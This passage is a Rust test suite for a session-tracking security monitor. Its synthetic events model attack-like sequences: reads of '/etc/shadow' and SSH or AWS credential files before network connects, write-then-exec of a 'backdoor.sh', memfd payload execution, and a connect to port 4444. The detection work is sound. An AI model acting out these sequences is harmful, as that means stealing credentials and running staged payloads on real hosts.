//! Tests of [`SessionContext`] over synthetic events: the original's §15 context checklist,
//! casa's documented differences, and a property test of the incremental history against
//! [`history_reference`].

use std::net::IpAddr;

use proptest::prelude::*;

use super::*;
use crate::event::{Bytes, Connect, Detail, Event, Exec, Exit, Fork, Open, SockAddr};

const SEC: u64 = 1_000_000_000;
const T0: u64 = 1_000 * SEC;

fn event(t: u64, pid: u32, comm: &str, detail: Detail) -> Event {
    Event {
        ktime_ns: t,
        pid,
        tid: pid,
        ppid: 1,
        uid: 1000,
        gid: 1000,
        cgroup_id: 0,
        comm: Bytes::from(comm),
        detail,
    }
}

fn exec_detail(path: &str) -> Exec {
    Exec {
        seccomp_mode: Some(2),
        ..Exec::test(path, &[path])
    }
}

fn exec(t: u64, pid: u32, path: &str) -> Event {
    let comm = classify::basename(path).to_owned();
    event(t, pid, &comm, Detail::Exec(exec_detail(path)))
}

fn open_res(t: u64, pid: u32, path: &str, flags: u32, result: i64) -> Event {
    event(
        t,
        pid,
        "x",
        Detail::Open(Open {
            syscall: "openat",
            result,
            flags,
            mode: 0o644,
            dfd: -100,
            raw_path: Bytes::from(path),
            path: (result >= 0).then(|| Bytes::from(path)),
            path_truncated: false,
            raw_unreadable: false,
            facts: Default::default(),
        }),
    )
}

fn open(t: u64, pid: u32, path: &str, flags: u32) -> Event {
    open_res(t, pid, path, flags, 3)
}

fn connect_to(t: u64, pid: u32, addr: SockAddr, result: i32) -> Event {
    event(
        t,
        pid,
        "x",
        Detail::Connect(Connect {
            result,
            fd: 3,
            addr,
        }),
    )
}

fn connect(t: u64, pid: u32, ip: &str, port: u16) -> Event {
    let addr: IpAddr = ip.parse().unwrap();
    connect_to(
        t,
        pid,
        SockAddr::Inet {
            addr,
            port,
            v4_mapped: false,
        },
        0,
    )
}

fn exit(t: u64, pid: u32, comm: &str) -> Event {
    event(
        t,
        pid,
        comm,
        Detail::Exit(Exit {
            exit_code: 0,
            status: Some(0),
            signal: None,
            core_dumped: false,
            leader: true,
            process_gone: true,
        }),
    )
}

fn node(pid: u32, name: &str) -> LineageNode {
    LineageNode {
        pid,
        name: name.to_owned(),
    }
}

fn fold(s: &mut SessionContext, events: &[Event], h: &Heuristics) {
    for e in events {
        s.apply(
            Observed {
                event: e,
                lineage: &[],
            },
            h,
        );
    }
}

/// A session with the literal list of its retained events (what the sticky reference is
/// defined over): every folded event, minus those a prune removed from the ring.
struct Tracked {
    s: SessionContext,
    all: Vec<RecentEvent>,
}

impl Tracked {
    fn new() -> Self {
        Self {
            s: SessionContext::new(1),
            all: Vec::new(),
        }
    }

    fn apply(&mut self, e: &Event, h: &Heuristics) -> bool {
        self.apply_with(e, &[], h)
    }

    fn apply_with(&mut self, e: &Event, lineage: &[LineageNode], h: &Heuristics) -> bool {
        let folded = into_ring(e);
        let changed = self.s.apply(Observed { event: e, lineage }, h);
        if folded {
            let last = self
                .s
                .recent()
                .last()
                .cloned()
                .expect("pushed into the ring");
            self.all.push(last);
        }
        changed
    }

    fn fold(&mut self, events: &[Event], h: &Heuristics) {
        for e in events {
            self.apply(e, h);
        }
    }

    fn prune(&mut self, pid: u32, h: &Heuristics) -> bool {
        let ring_len = self.s.recent().len();
        let pruned = self.s.prune_transparent_shell(pid, h);
        if pruned {
            let start = self.all.len() - ring_len;
            let mut i = 0;
            self.all.retain(|e| {
                i += 1;
                i <= start || e.pid != pid
            });
        }
        pruned
    }
}

/// The sequence flags of a [`History`] (what [`history_reference`] defines).
fn sequence(h: &History) -> History {
    History {
        connect_then_exec: h.connect_then_exec,
        sensitive_then_network: h.sensitive_then_network,
        sensitive_then_execve: h.sensitive_then_execve,
        burst_open: h.burst_open,
        burst_connect: h.burst_connect,
        burst_exec: h.burst_exec,
        write_then_exec_same_path: h.write_then_exec_same_path,
        opened_deleted_path: h.opened_deleted_path,
        ..History::default()
    }
}

fn history_of(events: &[Event], h: &Heuristics) -> History {
    let mut t = Tracked::new();
    t.fold(events, h);
    assert_reference(&t, h);
    t.s.context().history.clone()
}

/// The ring's own flags equal the reference over the ring (the original's semantics), and
/// the sticky flags equal the reference over every retained event.
fn assert_reference(t: &Tracked, h: &Heuristics) {
    let ring: Vec<RecentEvent> = t.s.recent().cloned().collect();
    assert_eq!(
        t.s.ring_flags(),
        history_reference(&ring, h),
        "ring: {ring:#?}"
    );
    assert_eq!(
        sequence(&t.s.context().history),
        history_reference(&t.all, h),
        "all: {:#?}",
        t.all
    );
}

fn with_sensitive_window(secs: u64) -> Heuristics {
    Heuristics {
        sensitive_history_window_ns: secs * SEC,
        ..Heuristics::default()
    }
}

// ---- write → exec ----

#[test]
fn write_then_exec_across_processes() {
    let h = Heuristics::default();
    let p = "/tmp/openclaw-eval/backdoor.sh";
    let hist = history_of(&[open(T0, 100, p, 0x241), exec(T0 + SEC, 101, p)], &h);
    assert!(hist.write_then_exec_same_path);
}

#[test]
fn read_only_open_does_not_count_as_write() {
    let h = Heuristics::default();
    let p = "/tmp/openclaw-eval/backdoor.sh";
    let hist = history_of(&[open(T0, 100, p, 0), exec(T0 + SEC, 101, p)], &h);
    assert!(!hist.write_then_exec_same_path);
}

#[test]
fn exec_before_write_does_not_count() {
    let h = Heuristics::default();
    let p = "/tmp/openclaw-eval/backdoor.sh";
    let hist = history_of(&[exec(T0, 101, p), open(T0 + SEC, 100, p, 0x241)], &h);
    assert!(!hist.write_then_exec_same_path);
}

#[test]
fn failed_write_open_does_not_count() {
    let h = Heuristics::default();
    let p = "/tmp/x.sh";
    let hist = history_of(
        &[open_res(T0, 100, p, 0x241, -13), exec(T0 + SEC, 101, p)],
        &h,
    );
    assert!(!hist.write_then_exec_same_path);
}

#[test]
fn write_then_exec_of_the_unlinked_file_matches() {
    let h = Heuristics::default();
    let hist = history_of(
        &[
            open(T0, 100, "/tmp/x", 0x241),
            exec(T0 + SEC, 100, "/tmp/x (deleted)"),
        ],
        &h,
    );
    assert!(hist.write_then_exec_same_path);
}

#[test]
fn write_then_exec_outlives_the_ring() {
    // The ring forgets (the original's semantics, still the ring's own flags); the session
    // fact does not.
    let h = Heuristics {
        recent_event_limit: 3,
        ..Heuristics::default()
    };
    let p = "/tmp/x.sh";
    let mut t = Tracked::new();
    t.fold(&[open(T0, 100, p, 0x241), exec(T0 + 1, 101, p)], &h);
    assert!(t.s.context().history.write_then_exec_same_path);
    t.fold(&[exit(T0 + 2, 101, "x.sh"), exit(T0 + 3, 100, "x")], &h);
    assert_eq!(t.s.recent().len(), 3);
    assert!(!t.s.ring_flags().write_then_exec_same_path);
    assert!(t.s.context().history.write_then_exec_same_path);
    assert_reference(&t, &h);
    // The write alone left the ring before the exec came: still matched.
    let mut t = Tracked::new();
    t.fold(&[open(T0, 100, p, 0x241)], &h);
    t.fold(
        &(1..10)
            .map(|i| open(T0 + i, 100, "/etc/hostname", 0))
            .collect::<Vec<_>>(),
        &h,
    );
    t.fold(&[exec(T0 + 20, 101, p)], &h);
    assert!(!t.s.ring_flags().write_then_exec_same_path);
    assert!(t.s.context().history.write_then_exec_same_path);
    assert_reference(&t, &h);
}

// ---- opened_deleted_path ----

#[test]
fn opened_deleted_path_is_a_session_fact() {
    let h = Heuristics {
        max_per_process_artifacts: 2,
        recent_event_limit: 3,
        ..Heuristics::default()
    };
    let mut t = Tracked::new();
    t.fold(
        &[
            open(T0, 100, "/tmp/openclaw-eval/backdoor.sh", 0x241),
            open(T0 + 1, 100, "/tmp/ghost (deleted)", 0),
        ],
        &h,
    );
    assert!(t.s.context().history.opened_deleted_path);
    assert_reference(&t, &h);
    // Later opens of any process push it out of the ring, not out of the session.
    t.fold(
        &[
            open(T0 + 2, 200, "/tmp/a", 0),
            open(T0 + 3, 100, "/tmp/b", 0),
            open(T0 + 4, 100, "/tmp/c", 0),
        ],
        &h,
    );
    assert!(!t.s.ring_flags().opened_deleted_path);
    assert!(t.s.context().history.opened_deleted_path);
    assert_reference(&t, &h);
}

#[test]
fn deleted_marker_must_end_the_path() {
    let h = Heuristics::default();
    let hist = history_of(&[open(T0, 100, "/tmp/a (deleted)/b", 0)], &h);
    assert!(!hist.opened_deleted_path);
}

// ---- connect → exec ----

#[test]
fn connect_then_exec_respects_order() {
    let h = Heuristics::default();
    let hist = history_of(
        &[
            connect(T0, 100, "8.8.8.8", 443),
            exec(T0 + SEC, 100, "/bin/ls"),
        ],
        &h,
    );
    assert!(hist.connect_then_exec);
    let hist = history_of(
        &[
            exec(T0, 100, "/bin/ls"),
            connect(T0 + SEC, 100, "8.8.8.8", 443),
        ],
        &h,
    );
    assert!(!hist.connect_then_exec);
}

#[test]
fn refused_connect_counts() {
    let h = Heuristics::default();
    let refused = connect_to(
        T0,
        100,
        SockAddr::Inet {
            addr: "203.0.113.9".parse().unwrap(),
            port: 4444,
            v4_mapped: false,
        },
        -111,
    );
    let hist = history_of(&[refused, exec(T0 + SEC, 100, "/bin/ls")], &h);
    assert!(hist.connect_then_exec);
}

// ---- sensitive → network / exec ----

#[test]
fn sensitive_then_network_is_session_scoped() {
    let h = Heuristics::default();
    let hist = history_of(
        &[
            open(T0, 100, "/etc/shadow", 0),
            connect(T0 + SEC, 200, "8.8.8.8", 443),
        ],
        &h,
    );
    assert!(hist.sensitive_then_network);
}

#[test]
fn sensitive_and_network_within_window_either_order() {
    let h = with_sensitive_window(2);
    for gap in [0, 2 * SEC] {
        let hist = history_of(
            &[
                connect(T0, 200, "8.8.8.8", 443),
                open(T0 + gap, 100, "/etc/shadow", 0),
            ],
            &h,
        );
        assert!(
            hist.sensitive_then_network,
            "connect before open, gap {gap}"
        );
        let hist = history_of(
            &[
                open(T0, 100, "/etc/shadow", 0),
                connect(T0 + gap, 200, "8.8.8.8", 443),
            ],
            &h,
        );
        assert!(
            hist.sensitive_then_network,
            "open before connect, gap {gap}"
        );
    }
    let hist = history_of(
        &[
            connect(T0, 200, "8.8.8.8", 443),
            open(T0 + 3 * SEC, 100, "/etc/shadow", 0),
        ],
        &h,
    );
    assert!(!hist.sensitive_then_network);
    let hist = history_of(
        &[
            open(T0, 100, "/etc/shadow", 0),
            connect(T0 + 3 * SEC, 200, "8.8.8.8", 443),
        ],
        &h,
    );
    assert!(!hist.sensitive_then_network);
}

#[test]
fn sensitive_and_exec_within_window_either_order() {
    let h = with_sensitive_window(2);
    let hist = history_of(
        &[
            open(T0, 100, "/etc/shadow", 0),
            exec(T0 + SEC, 100, "/bin/sh"),
        ],
        &h,
    );
    assert!(hist.sensitive_then_execve);
    let hist = history_of(
        &[
            exec(T0, 100, "/bin/sh"),
            open(T0 + 2 * SEC, 100, "/etc/shadow", 0),
        ],
        &h,
    );
    assert!(hist.sensitive_then_execve);
    let hist = history_of(
        &[
            open(T0, 100, "/etc/shadow", 0),
            exec(T0 + 3 * SEC, 100, "/bin/sh"),
        ],
        &h,
    );
    assert!(!hist.sensitive_then_execve);
    let hist = history_of(
        &[
            exec(T0, 100, "/bin/sh"),
            open(T0 + 3 * SEC, 100, "/etc/shadow", 0),
        ],
        &h,
    );
    assert!(!hist.sensitive_then_execve);
}

#[test]
fn sensitive_window_zero_is_unlimited() {
    let h = with_sensitive_window(0);
    let hist = history_of(
        &[
            open(T0, 100, "/root/.ssh/id_rsa", 0),
            connect(T0 + 3600 * SEC, 100, "8.8.8.8", 443),
        ],
        &h,
    );
    assert!(hist.sensitive_then_network);
}

#[test]
fn failed_sensitive_open_counts() {
    let h = with_sensitive_window(2);
    let hist = history_of(
        &[
            open_res(T0, 100, "/root/.aws/credentials", 0, -13),
            connect(T0 + SEC, 100, "8.8.8.8", 443),
        ],
        &h,
    );
    assert!(hist.sensitive_then_network);
}

#[test]
fn non_sensitive_open_does_not_pair() {
    let h = with_sensitive_window(2);
    let hist = history_of(
        &[
            open(T0, 100, "/tmp/a", 0),
            connect(T0 + SEC, 100, "8.8.8.8", 443),
            exec(T0 + SEC, 100, "/bin/ls"),
        ],
        &h,
    );
    assert!(!hist.sensitive_then_network);
    assert!(!hist.sensitive_then_execve);
}

// ---- bursts ----

fn burst_h(open: usize, connect: usize, exec: usize) -> Heuristics {
    Heuristics {
        burst_open_threshold: open,
        burst_connect_threshold: connect,
        burst_exec_threshold: exec,
        burst_window_ns: 2 * SEC,
        ..Heuristics::default()
    }
}

#[test]
fn burst_open_honours_the_ignore_list() {
    let h = burst_h(3, 3, 3);
    let ms = 1_000_000;
    let hist = history_of(
        &[
            open(T0, 100, "/etc/ld.so.cache", 0),
            open(
                T0 + 200 * ms,
                100,
                "/home/ubuntu/.nvm/versions/node/v24.14.1/lib/node_modules/openclaw/package.json",
                0,
            ),
            open(T0 + 400 * ms, 100, "/home/ubuntu/.openclaw/config.json", 0),
        ],
        &h,
    );
    assert!(!hist.burst_open, "runtime/tooling opens");
    let hist = history_of(
        &[
            open(T0, 100, "/home/ubuntu/.profile", 0),
            open(T0 + 200 * ms, 100, "/workspace/project/package.json", 0),
            open(
                T0 + 400 * ms,
                100,
                "/workspace/project/package-lock.json",
                0,
            ),
            open(T0 + 500 * ms, 100, "/root/.bashrc", 0),
        ],
        &h,
    );
    assert!(!hist.burst_open, "shell start-up files and manifests");
    let hist = history_of(
        &[
            open(T0, 100, "/tmp/a", 0),
            open(T0 + 200 * ms, 100, "/tmp/b", 0),
            open(T0 + 400 * ms, 100, "/tmp/c", 0),
        ],
        &h,
    );
    assert!(hist.burst_open, "a real burst");
    let hist = history_of(
        &[
            open(T0, 100, "/tmp/a", 0),
            open(T0 + SEC, 100, "/tmp/b", 0),
            open(T0 + 3 * SEC, 100, "/tmp/c", 0),
        ],
        &h,
    );
    assert!(!hist.burst_open, "spread over more than the window");
}

#[test]
fn burst_connect_excludes_local_destinations() {
    let h = burst_h(3, 3, 3);
    let local: Vec<Event> = [
        ("127.0.0.1", 80),
        ("169.254.169.254", 80),
        ("10.0.0.5", 443),
        ("172.16.3.4", 443),
        ("192.168.1.1", 443),
        ("127.0.0.53", 53),
        ("192.168.1.1", 53),
        ("::1", 8080),
    ]
    .iter()
    .enumerate()
    .map(|(i, (ip, port))| connect(T0 + i as u64, 100, ip, *port))
    .collect();
    assert!(!history_of(&local, &h).burst_connect);
    let unix: Vec<Event> = (0..4)
        .map(|i| {
            connect_to(
                T0 + i,
                100,
                SockAddr::Unix {
                    path: Bytes::from("/run/nscd/socket"),
                },
                0,
            )
        })
        .collect();
    assert!(!history_of(&unix, &h).burst_connect);
    let remote: Vec<Event> = ["8.8.8.8", "1.1.1.1", "172.32.0.1"]
        .iter()
        .enumerate()
        .map(|(i, ip)| connect(T0 + i as u64, 100, ip, 443))
        .collect();
    assert!(history_of(&remote, &h).burst_connect);
}

#[test]
fn burst_exec_counts_every_exec() {
    let h = burst_h(3, 3, 3);
    let two: Vec<Event> = (0..2).map(|i| exec(T0 + i, 100, "/bin/ls")).collect();
    assert!(!history_of(&two, &h).burst_exec);
    let three: Vec<Event> = (0..3)
        .map(|i| exec(T0 + i, 100 + i as u32, "/bin/ls"))
        .collect();
    assert!(history_of(&three, &h).burst_exec);
}

#[test]
fn threshold_one_needs_one_event() {
    for threshold in [0, 1] {
        let h = burst_h(threshold, threshold, threshold);
        let none = history_of(&[exit(T0, 100, "x")], &h);
        assert!(!none.burst_open && !none.burst_connect && !none.burst_exec);
        let hist = history_of(
            &[
                open(T0, 100, "/tmp/a", 0),
                connect(T0, 100, "8.8.8.8", 443),
                exec(T0, 100, "/bin/ls"),
            ],
            &h,
        );
        assert!(hist.burst_open && hist.burst_connect && hist.burst_exec);
        let ignored = history_of(
            &[
                open(T0, 100, "/dev/null", 0),
                connect(T0, 100, "127.0.0.1", 80),
            ],
            &h,
        );
        assert!(!ignored.burst_open && !ignored.burst_connect);
    }
}

// ---- execution ----

fn exec_with(s: &mut SessionContext, e: &Event, lineage: &[LineageNode], h: &Heuristics) {
    s.apply(Observed { event: e, lineage }, h);
}

#[test]
fn deep_chain_from_lineage_depth() {
    let h = Heuristics::default(); // deep_chain_threshold 5
    let names = ["ls", "sh", "node", "node", "openclaw", "systemd", "init"];
    let lineage: Vec<LineageNode> = names
        .iter()
        .enumerate()
        .map(|(i, n)| node(100 + i as u32, n))
        .collect();
    let mut s = SessionContext::new(1);
    exec_with(&mut s, &exec(T0, 100, "/bin/ls"), &lineage[..5], &h); // depth 4
    assert!(!s.context().execution.deep_chain);
    exec_with(&mut s, &exec(T0 + 1, 100, "/bin/ls"), &lineage[..6], &h); // depth 5
    assert!(s.context().execution.deep_chain);
    // Sticky: a shallow exec later does not clear it.
    exec_with(&mut s, &exec(T0 + 2, 101, "/bin/ls"), &lineage[..1], &h);
    assert!(s.context().execution.deep_chain);
}

#[test]
fn chain_names_include_the_process_itself() {
    let h = Heuristics::default();
    type Flag = fn(&Execution) -> bool;
    let cases: [(&str, Flag); 4] = [
        ("/usr/bin/bash", |x| x.shell_in_chain),
        ("/usr/bin/python3", |x| x.interpreter_in_chain),
        ("/usr/bin/curl", |x| x.network_tool_in_chain),
        ("/usr/bin/runc", |x| x.container_runtime_in_chain),
    ];
    for (path, flag) in cases {
        // As node 0 of the lineage.
        let mut s = SessionContext::new(1);
        let name = classify::basename(path);
        exec_with(
            &mut s,
            &exec(T0, 100, path),
            &[node(100, name), node(1, "openclaw")],
            &h,
        );
        assert!(flag(&s.context().execution), "{path} as node 0");
        // Without lineage: the process's own name.
        let mut s = SessionContext::new(1);
        exec_with(&mut s, &exec(T0, 100, path), &[], &h);
        assert!(flag(&s.context().execution), "{path} without lineage");
    }
    let mut s = SessionContext::new(1);
    exec_with(
        &mut s,
        &exec(T0, 100, "/usr/bin/ls"),
        &[node(100, "ls")],
        &h,
    );
    assert_eq!(s.context().execution, Execution::default());
}

#[test]
fn chain_names_from_ancestors() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    exec_with(
        &mut s,
        &exec(T0, 100, "/usr/bin/ls"),
        &[
            node(100, "ls"),
            node(99, "sh"),
            node(98, "node"),
            node(97, "docker"),
            node(96, "wget"),
        ],
        &h,
    );
    let x = s.context().execution.clone();
    assert!(x.shell_in_chain && x.interpreter_in_chain);
    assert!(x.container_runtime_in_chain && x.network_tool_in_chain);
    assert!(!x.suspicious_path_exec && !x.memfd_or_deleted_exec && !x.deep_chain);
}

#[test]
fn memfd_and_deleted_exec() {
    let h = Heuristics::default();
    for path in ["/memfd:payload (deleted)", "memfd:x", "/opt/tool (deleted)"] {
        let mut s = SessionContext::new(1);
        exec_with(&mut s, &exec(T0, 100, path), &[], &h);
        let x = s.context().execution.clone();
        assert!(x.memfd_or_deleted_exec, "{path}");
        assert!(x.suspicious_path_exec, "{path}");
    }
    let mut s = SessionContext::new(1);
    exec_with(&mut s, &exec(T0, 100, "/tmp/x.sh"), &[], &h);
    let x = s.context().execution.clone();
    assert!(x.suspicious_path_exec && !x.memfd_or_deleted_exec);
}

#[test]
fn exit_contributes_the_process_name() {
    // A forked shell that never exec'd: its comm counts at exit (as in the original).
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    fold(&mut s, &[exit(T0, 100, "bash")], &h);
    assert!(s.context().execution.shell_in_chain);
}

// ---- capability ----

#[test]
fn capability_from_configured_bits() {
    let h = Heuristics {
        dangerous_capabilities: capability_bits(&["cap_net_raw", "CAP_SYS_ADMIN", "nope"]),
        ..Heuristics::default()
    };
    assert_eq!(h.dangerous_capabilities, vec![13, 21]);
    let mut s = SessionContext::new(1);
    let mut x = exec_detail("/usr/bin/ping");
    x.cap_effective = Some(1 << 13);
    x.seccomp_mode = Some(2);
    fold(
        &mut s,
        &[event(T0, 100, "ping", Detail::Exec(x.clone()))],
        &h,
    );
    let c = s.context().capability.clone();
    assert!(c.has_dangerous_caps && !c.seccomp_disabled && !c.capability_unknown);
    assert_eq!(c.dangerous_count, 1);

    // Unconfigured capabilities are ignored.
    let mut s = SessionContext::new(1);
    x.cap_effective = Some(1 << 12 | 1 << 19 | 1 << 0);
    fold(
        &mut s,
        &[event(T0, 100, "ping", Detail::Exec(x.clone()))],
        &h,
    );
    let c = s.context().capability.clone();
    assert!(!c.has_dangerous_caps);
    assert_eq!(c.dangerous_count, 0);

    // Session maximum, sticky bools.
    let mut s = SessionContext::new(1);
    x.cap_effective = Some(1 << 13 | 1 << 21);
    x.seccomp_mode = Some(0);
    let mut y = exec_detail("/bin/ls");
    y.cap_effective = Some(1 << 13);
    fold(
        &mut s,
        &[
            event(T0, 100, "a", Detail::Exec(x)),
            event(T0 + 1, 101, "b", Detail::Exec(y)),
        ],
        &h,
    );
    let c = s.context().capability.clone();
    assert_eq!(c.dangerous_count, 2);
    assert!(c.has_dangerous_caps && c.seccomp_disabled);
}

#[test]
fn capability_unknown_when_not_read() {
    let h = Heuristics::default();
    let mut x = exec_detail("/bin/ls");
    x.cap_effective = None;
    x.seccomp_mode = Some(0);
    let mut s = SessionContext::new(1);
    fold(&mut s, &[event(T0, 100, "ls", Detail::Exec(x.clone()))], &h);
    let c = s.context().capability.clone();
    assert!(c.capability_unknown && c.seccomp_disabled && !c.has_dangerous_caps);
    x.cap_effective = Some(1 << 21);
    x.seccomp_mode = None;
    let mut s = SessionContext::new(1);
    fold(&mut s, &[event(T0, 100, "ls", Detail::Exec(x))], &h);
    let c = s.context().capability.clone();
    assert!(c.capability_unknown && c.has_dangerous_caps && !c.seccomp_disabled);
}

// ---- folding ----

#[test]
fn failed_exec_and_fork_are_not_folded() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(7);
    let mut x = exec_detail("/tmp/x.sh");
    x.result = -2;
    let changed = s.apply(
        Observed {
            event: &event(T0, 100, "sh", Detail::Exec(x)),
            lineage: &[],
        },
        &h,
    );
    assert!(!changed);
    let fork = event(
        T0,
        100,
        "sh",
        Detail::Fork(Fork {
            child_pid: 101,
            child_tid: 101,
        }),
    );
    assert!(!s.apply(
        Observed {
            event: &fork,
            lineage: &[]
        },
        &h
    ));
    assert_eq!(s.recent().len(), 0);
    assert_eq!(s.process_count(), 0);
    assert_eq!(s.created_ns(), None);
    assert_eq!(s.context().session_id, 7);
}

#[test]
fn apply_reports_changes_and_tracks_times() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    let o = open(T0, 100, "/tmp/a", 0);
    assert!(!s.apply(
        Observed {
            event: &o,
            lineage: &[]
        },
        &h
    ));
    let x = exec(T0 + 5, 100, "/tmp/a");
    assert!(s.apply(
        Observed {
            event: &x,
            lineage: &[]
        },
        &h
    ));
    assert_eq!(s.created_ns(), Some(T0));
    assert_eq!(s.updated_ns(), Some(T0 + 5));
    assert_eq!(s.process_count(), 1);
}

#[test]
fn ring_is_bounded_and_ordered() {
    let h = Heuristics {
        recent_event_limit: 4,
        ..Heuristics::default()
    };
    let mut s = SessionContext::new(1);
    let events: Vec<Event> = (0..10)
        .map(|i| open(T0 + i, 100, &format!("/tmp/{i}"), 0))
        .collect();
    fold(&mut s, &events, &h);
    let paths: Vec<String> = s
        .recent()
        .map(|e| match &e.kind {
            RecentKind::Open { path, .. } => path.clone(),
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(paths, ["/tmp/6", "/tmp/7", "/tmp/8", "/tmp/9"]);
}

#[test]
fn clock_never_goes_backwards() {
    let h = burst_h(3, 3, 3);
    let mut t = Tracked::new();
    t.fold(
        &[
            open(T0 + 10 * SEC, 100, "/tmp/a", 0),
            open(T0, 100, "/tmp/b", 0), // arrived late, stamped earlier
            open(T0 + 10 * SEC + 1, 100, "/tmp/c", 0),
        ],
        &h,
    );
    let clocks: Vec<(u64, u64)> = t.s.recent().map(|e| (e.ktime_ns, e.clock_ns)).collect();
    assert_eq!(
        clocks,
        [
            (T0 + 10 * SEC, T0 + 10 * SEC),
            (T0, T0 + 10 * SEC),
            (T0 + 10 * SEC + 1, T0 + 10 * SEC + 1)
        ]
    );
    assert!(t.s.context().history.burst_open);
    assert_reference(&t, &h);
}

#[test]
fn heuristics_change_rederives_history() {
    let mut h = burst_h(3, 3, 3);
    let mut t = Tracked::new();
    t.fold(
        &[open(T0, 100, "/tmp/a", 0), open(T0 + 1, 100, "/tmp/b", 0)],
        &h,
    );
    assert!(!t.s.context().history.burst_open);
    h.burst_open_threshold = 2;
    t.fold(&[exit(T0 + 2, 100, "x")], &h);
    assert!(t.s.context().history.burst_open);
    assert_reference(&t, &h);
}

// ---- prune ----

#[test]
fn prune_transparent_shell_removes_the_wrapper() {
    let h = Heuristics::default();
    let mut t = Tracked::new();
    let sh = exec(T0, 50, "/bin/sh");
    t.apply_with(&sh, &[node(50, "sh"), node(1, "openclaw")], &h);
    t.fold(
        &[
            open(T0 + 1, 50, "/etc/ld.so.cache", 0),
            open(T0 + 2, 50, "/lib/x86_64-linux-gnu/libc.so.6", 0),
            connect(T0 + 3, 60, "8.8.8.8", 443),
        ],
        &h,
    );
    let curl = exec(T0 + 4, 61, "/usr/bin/curl");
    t.apply_with(&curl, &[node(61, "curl"), node(1, "openclaw")], &h);
    let x = t.s.context().execution.clone();
    assert!(x.shell_in_chain && x.interpreter_in_chain && x.network_tool_in_chain);
    assert!(t.s.context().history.connect_then_exec);
    assert_eq!(t.s.process_count(), 3);

    assert!(t.prune(50, &h));
    assert!(!t.s.has_process(50));
    assert_eq!(t.s.process_count(), 2);
    assert!(t.s.recent().all(|e| e.pid != 50));
    assert_eq!(t.s.recent().len(), 2);
    let x = t.s.context().execution.clone();
    assert!(
        !x.shell_in_chain && !x.interpreter_in_chain,
        "rebuilt: {x:?}"
    );
    assert!(x.network_tool_in_chain);
    assert!(t.s.context().history.connect_then_exec);
    assert_reference(&t, &h);
    // Gone: a second prune does nothing.
    assert!(!t.prune(50, &h));
}

#[test]
fn prune_refuses_non_wrappers() {
    let h = Heuristics::default();
    let setup = |extra: &[Event], path: &str| {
        let mut s = SessionContext::new(1);
        fold(&mut s, &[exec(T0, 50, path)], &h);
        fold(&mut s, extra, &h);
        s
    };
    // Connected.
    let mut s = setup(&[connect(T0 + 1, 50, "8.8.8.8", 443)], "/bin/sh");
    assert!(!s.prune_transparent_shell(50, &h));
    // Opened something that matters (even if it later scrolled out of its artifacts).
    let mut opens = vec![open(T0 + 1, 50, "/etc/passwd", 0)];
    opens.extend((0..20).map(|i| open(T0 + 2 + i, 50, "/dev/null", 0)));
    let mut s = setup(&opens, "/bin/bash");
    assert!(!s.prune_transparent_shell(50, &h));
    // Not a shell.
    let mut s = setup(&[], "/usr/bin/python3");
    assert!(!s.prune_transparent_shell(50, &h));
    // A "shell" run from a suspicious place.
    let mut s = setup(&[], "/tmp/x/sh");
    assert!(!s.prune_transparent_shell(50, &h));
    // Unknown pid.
    assert!(!s.prune_transparent_shell(4242, &h));
    // A forked shell (no exec) named by its comm is a wrapper.
    let mut s = SessionContext::new(1);
    fold(&mut s, &[open(T0, 70, "/dev/tty", 0)], &h);
    assert!(
        !s.prune_transparent_shell(70, &h),
        "comm \"x\" is not a shell"
    );
    let mut s = SessionContext::new(1);
    fold(&mut s, &[exit(T0, 70, "dash")], &h);
    assert!(s.prune_transparent_shell(70, &h));
    assert_eq!(s.context().execution, Execution::default());
}

#[test]
fn prune_rebuilds_capability() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    let mut x = exec_detail("/bin/sh");
    x.cap_effective = Some(1 << 21);
    x.seccomp_mode = Some(0);
    fold(&mut s, &[event(T0, 50, "sh", Detail::Exec(x))], &h);
    fold(&mut s, &[exec(T0 + 1, 51, "/bin/ls")], &h);
    assert!(s.context().capability.has_dangerous_caps);
    assert!(s.prune_transparent_shell(50, &h));
    let c = s.context().capability.clone();
    assert!(!c.has_dangerous_caps && !c.seccomp_disabled);
    assert_eq!(c.dangerous_count, 0);
}

// ---- incremental history == reference ----

const PATHS: &[&str] = &[
    "/tmp/x.sh",
    "/tmp/y",
    "/etc/shadow",
    "/root/.ssh/id_rsa",
    "/dev/null",
    "/etc/ld.so.cache",
    "/tmp/ghost (deleted)",
    "/home/u/.openclaw/state (deleted)", // burst-ignored, yet deleted
    "/usr/bin/ls",
];
const EXECS: &[&str] = &[
    "/tmp/x.sh",
    "/tmp/y",
    "/bin/sh",
    "/usr/bin/ls",
    "/tmp/x.sh (deleted)",
    "/memfd:p (deleted)",
];
const IPS: &[&str] = &["8.8.8.8", "10.0.0.1", "127.0.0.1", "1.1.1.1", "::1"];
const FLAGS: &[u32] = &[0, 0x241, 1, 2, 0x400, 0x80000];

#[derive(Clone, Debug)]
enum Op {
    Exec(u32, usize),
    Open(u32, usize, usize, bool),
    Connect(u32, usize, u16, bool),
    Exit(u32),
    Prune(u32),
    /// Switch to the other heuristics.
    Switch,
}

fn op() -> impl Strategy<Value = (Op, u64)> {
    let pid = 1u32..5;
    let kind = prop_oneof![
        4 => (pid.clone(), 0..EXECS.len()).prop_map(|(p, i)| Op::Exec(p, i)),
        6 => (pid.clone(), 0..PATHS.len(), 0..FLAGS.len(), any::<bool>())
            .prop_map(|(p, i, f, ok)| Op::Open(p, i, f, ok)),
        4 => (pid.clone(), 0..IPS.len(), prop::sample::select(vec![53u16, 80, 443]), any::<bool>())
            .prop_map(|(p, i, port, unix)| Op::Connect(p, i, port, unix)),
        2 => pid.clone().prop_map(Op::Exit),
        1 => pid.prop_map(Op::Prune),
        1 => Just(Op::Switch),
    ];
    // Gaps in quarter seconds; 0 gives simultaneous events, 13 a step back in time.
    (kind, 0u64..14)
}

fn heuristics() -> impl Strategy<Value = Heuristics> {
    (
        3usize..=10,
        1usize..=5,
        (1usize..=4, 1usize..=4, 1usize..=4),
        prop::sample::select(vec![0u64, 1, 2, 5]),
        prop::sample::select(vec![0u64, 1, 2, 5]),
    )
        .prop_map(|(ring, artifacts, (bo, bc, be), bw, sw)| Heuristics {
            recent_event_limit: ring,
            max_per_process_artifacts: artifacts,
            burst_open_threshold: bo,
            burst_connect_threshold: bc,
